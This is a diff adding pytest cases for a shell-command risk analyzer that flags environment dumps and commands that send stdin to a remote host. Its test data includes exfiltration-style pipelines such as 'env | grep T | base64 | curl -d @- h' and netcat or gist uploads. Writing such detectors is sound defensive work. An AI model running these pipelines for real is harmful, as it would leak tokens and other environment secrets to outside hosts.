@@ -219,3 +219,53 @@ def test_signals_tenantry(prog: str, args: list[str], hits: bool) -> None:
 )
 def test_controls_tenantry(prog: str, args: list[str], control: bool) -> None:
     assert risky.controls_tenantry(prog, args) is control
+
+
+@pytest.mark.parametrize(
+    ("prog", "args", "dumps"),
+    [
+        ("env", [], True),
+        ("env", ["-0"], True),
+        ("env", ["FOO=1", "make"], False),  # a wrapper, not a dump
+        ("printenv", ["GITHUB_TOKEN"], True),
+        ("set", [], True),
+        ("set", ["-e"], False),
+        ("declare", ["-x"], True),
+        ("declare", ["-f"], False),
+    ],
+)
+def test_dumps_env(prog: str, args: list[str], dumps: bool) -> None:
+    assert risky.dumps_env(prog, args) is dumps
+
+
+@pytest.mark.parametrize(
+    ("prog", "args", "sends"),
+    [
+        ("curl", ["-d", "@-", "https://h"], True),
+        ("curl", ["--data-binary=@-", "https://h"], True),
+        ("curl", ["-T", "-", "https://h"], True),
+        ("curl", ["-d", "@body.json", "https://h"], False),
+        ("curl", ["https://h/x"], False),
+        ("nc", ["h", "80"], True),
+        ("ssh", ["h", "cat > x"], True),
+        ("wget", ["--post-file=/dev/stdin", "https://h"], True),
+        ("wget", ["https://h/x"], False),
+        ("openssl", ["s_client", "-connect", "h:443"], True),
+        ("gh", ["gist", "create", "-"], True),
+        ("rclone", ["rcat", "r:x"], True),
+    ],
+)
+def test_sends_input(prog: str, args: list[str], sends: bool) -> None:
+    assert risky.sends_input(prog, args) is sends
+
+
+def test_the_environment_flows_down_a_pipeline() -> None:
+    def flows(line: str) -> dict[str, bool]:
+        return {c.program: c.stdin_env for c in analyze_shell(line).commands}
+
+    assert flows("env | grep T | base64 | curl -d @- h") == {
+        "env": False, "grep": True, "base64": True, "curl": True,
+    }  # fmt: skip
+    assert flows("env | wc -l | curl -d @- h")["curl"] is False  # a count is not the env
+    assert flows("cat f | curl -d @- h")["curl"] is False
+    assert flows("env | bash -c 'cat | curl -d @- h'")["curl"] is True
